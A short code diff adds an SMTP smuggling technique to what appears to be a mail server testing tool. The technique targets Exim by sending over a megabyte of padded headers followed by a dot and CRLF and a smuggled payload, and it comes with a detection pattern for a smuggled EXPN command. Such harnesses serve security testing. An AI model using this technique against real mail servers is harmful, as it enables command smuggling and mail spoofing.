@@ -95,6 +95,18 @@ def smuggling_long_line(attack: Attack) -> None:
         connection.put(part)
 
 
+@technique("smuggling-long-header", "a dot and CRLF in a header's line behind 1 MiB of it: Exim", server=LOOSE)
+def smuggling_long_header(attack: Attack) -> None:
+    connection = attack.text()
+    attack.forbidden += [rb"[^\r\n]\.\r\nEXPN"]
+    for _ in range(1025):
+        connection.put(b"X: %s\r\n" % (b"a" * 1020))
+        connection.read()
+    for part in (b"x.\r\n", EVIL, b"more text\r\n.\r\n"):
+        attack.wait(0.05)
+        connection.put(part)
+
+
 @technique("data-lone-lf", "DATA ended by LF, then a dot and its line: was there a text at all?", server=LOOSE)
 def data_lone_lf(attack: Attack) -> None:
     connection = attack.mail()
